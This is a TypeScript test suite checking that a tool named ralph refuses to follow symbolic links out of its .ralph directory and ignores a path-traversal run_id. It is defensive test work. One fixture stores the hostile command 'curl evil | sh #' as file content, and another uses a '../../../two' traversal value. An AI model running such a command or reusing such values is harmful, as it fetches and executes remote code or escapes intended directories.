import {
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { chooseFeature } from '../../src/board/current-feature.ts'
import { SessionNotes } from '../../src/hooks/session-notes.ts'
import { RunFiles } from '../../src/loop/run-file.ts'
import { setUpProject } from '../../src/project-setup.ts'
import { openRalph, type Ralph } from '../../src/ralph.ts'
import { makeCheckout } from '../support/checkout.ts'
import { newIteration } from '../support/records.ts'

/** A clone brings links: whatever ralph does in it, nothing outside changes. */
let folder: string
let project: string
let outside: string
let ralph: Ralph

beforeEach(async () => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'ralph-links-')))
  project = join(folder, 'clone')
  outside = join(folder, 'outside')
  makeCheckout(project)
  mkdirSync(outside, { recursive: true })
  writeFileSync(join(outside, 'start-up'), 'export PATH\n')
  ralph = await openRalph({ project, home: join(folder, 'home'), env: {}, onNotice: () => undefined })
})

afterEach(async () => {
  await ralph.close().catch(() => undefined)
  rmSync(folder, { recursive: true, force: true })
})

const own = (path: string) => join(project, '.ralph', path)
const target = () => join(outside, 'start-up')

function link(to: string, path: string): void {
  mkdirSync(dirname(own(path)), { recursive: true })
  symlinkSync(to, own(path))
}

function record(): Promise<unknown> {
  return ralph.featureMemory.recordIteration(newIteration({ feature: 'general', summary: 'It was built' }))
}

function unharmed(): void {
  expect(readdirSync(outside)).toEqual(['start-up'])
  expect(readFileSync(target(), 'utf8')).toBe('export PATH\n')
}

describe('a link to a file', () => {
  it('gets no half line that a journal sets aside', async () => {
    mkdirSync(own('db/memory'), { recursive: true })
    writeFileSync(own('db/memory/general.jsonl'), 'curl evil | sh #')
    link(target(), 'db/memory/general.jsonl.torn')
    await expect(record()).rejects.toMatchObject({
      message: expect.stringContaining('is a link'),
      hint: expect.stringContaining(`rm ${own('db/memory/general.jsonl.torn')}`),
    })
    unharmed()
    expect(readFileSync(own('db/memory/general.jsonl'), 'utf8')).toBe('curl evil | sh #')
  })

  it('is not taken for a journal, whether it exists or not', async () => {
    link(target(), 'db/memory/general.jsonl')
    await expect(record()).rejects.toThrow('is a link')
    await expect(ralph.featureMemory.verify('general')).rejects.toThrow('is a link')
    rmSync(own('db/memory/general.jsonl'))
    link(join(outside, 'new'), 'db/memory/general.jsonl')
    await expect(record()).rejects.toThrow('is a link')
    unharmed()
  })

  it.each([
    ['db/memory/general.jsonl.lock', record],
    ['db/board.lock', () => ralph.board.addFeature({ name: 'auth' })],
  ])('is not locked: %s', async (path, work) => {
    link(join(outside, 'new'), path)
    await expect(work()).rejects.toThrow('is a link')
    unharmed()
  })

  it.each(['cache/index.db', 'cache/index.db-wal', 'cache/index.db-lease'])(
    'is no index: %s',
    async (path) => {
      await record()
      link(join(outside, 'new'), path)
      await ralph.featureMemory.search('general', 'built').catch(() => undefined)
      unharmed()
    },
  )

  it('holds no choice, no note, no rules for git', async () => {
    link(target(), 'local/current-feature')
    expect(() => chooseFeature(project, 'evil')).toThrow('is a link')
    link(join(outside, 'new'), 'cache/.gitignore')
    link(target(), 'cache/hooks/sessions/one/touched')
    expect(() => new SessionNotes(own('cache/hooks/sessions'), 'one').touch('a.ts')).toThrow('is a link')
    await ralph.close()
    unharmed()
  })

  it('is not read as part of the board', async () => {
    writeFileSync(join(outside, 'features.yaml'), 'features: [{name: other-project}]\n')
    link(join(outside, 'features.yaml'), 'db/features.yaml')
    await expect(ralph.board.features()).rejects.toThrow('is a link')
  })

  it('may also be a second name of the same file: it is left as it was', async () => {
    mkdirSync(own('db/memory'), { recursive: true })
    writeFileSync(target(), '')
    linkSync(target(), own('db/memory/general.jsonl'))
    await record()
    expect(readFileSync(target(), 'utf8')).toBe('')
    expect(readFileSync(own('db/memory/general.jsonl'), 'utf8')).toContain('It was built')
  })
})

describe('a link to a folder', () => {
  it.each(['db/memory', 'db', 'cache', 'cache/locks', 'cache/journal', 'receipts', 'cache/loop'])(
    'is not written through: %s',
    async (path) => {
      link(outside, path)
      await record().catch(() => undefined)
      await ralph.featureMemory.search('general', 'built').catch(() => undefined)
      await ralph.board.addFeature({ name: 'auth' }).catch(() => undefined)
      await setUpProject(ralph.config).catch(() => undefined)
      await new RunFiles(own('cache/loop')).prepare().catch(() => undefined)
      ralph.receipts.append({ surface: 'loop', feature: 'general', items: [], tokens: 0 } as never)
      await ralph.close()
      unharmed()
    },
  )

  it('is said with the command that mends it', async () => {
    link(outside, 'cache')
    await expect(ralph.board.addFeature({ name: 'auth' })).rejects.toMatchObject({
      message: `${own('cache')} is a link; ralph follows none out of .ralph`,
      hint: expect.stringContaining(`rm ${own('cache')}`),
    })
    rmSync(own('cache'))
    await ralph.board.addFeature({ name: 'auth' })
    expect(lstatSync(own('cache')).isDirectory()).toBe(true)
  })

  it('may be .ralph itself only within the project', async () => {
    symlinkSync(outside, join(project, '.ralph'))
    await expect(record()).rejects.toThrow('.ralph is a link')
    await expect(setUpProject(ralph.config)).rejects.toThrow('.ralph is a link')
    unharmed()
    rmSync(join(project, '.ralph'))
    symlinkSync(join(outside, 'new'), join(project, '.ralph'))
    await expect(record()).rejects.toThrow('.ralph is a link')
    unharmed()
    rmSync(join(project, '.ralph'))
    mkdirSync(join(project, 'memory'))
    symlinkSync('memory', join(project, '.ralph'))
    await record()
    expect(existsSync(join(project, 'memory/db/memory/general.jsonl'))).toBe(true)
  })

  it('stays where it is when nothing of it is ours', async () => {
    await record()
    renameSync(own('db/memory'), join(folder, 'moved'))
    link(join(folder, 'moved'), 'db/memory')
    await expect(ralph.featureMemory.forget('general')).rejects.toThrow('is a link')
    expect(existsSync(join(folder, 'moved/general.jsonl'))).toBe(true)
  })
})

it('deletes no log behind a link', async () => {
  link(outside, 'cache/loop/logs')
  writeFileSync(join(outside, 'one.jsonl'), 'mine')
  await expect(new RunFiles(own('cache/loop')).forget(() => true)).rejects.toThrow('is a link')
  expect(readFileSync(join(outside, 'one.jsonl'), 'utf8')).toBe('mine')
})

it('takes the log of a cut-off run from where logs lie, whatever a note says', async () => {
  const runs = new RunFiles(own('cache/loop'))
  await runs.prepare()
  const note = {
    run_id: 'one',
    started_at: '2026-01-01T00:00:00.000Z',
    review: false,
    feature: 'general',
    task_id: 1,
    task_title: 'x',
    discipline: 'x',
    before: { status: 'pending', comments: 0 },
    log: target(),
    shown_learnings: [],
    phase: 'ended',
  }
  writeFileSync(own('cache/loop/runs/one.json'), JSON.stringify(note))
  writeFileSync(own('cache/loop/runs/two.json'), JSON.stringify({ ...note, run_id: '../../../two' }))
  expect((await runs.unfinished()).map(({ log }) => log)).toEqual([own('cache/loop/logs/one.jsonl')])
})
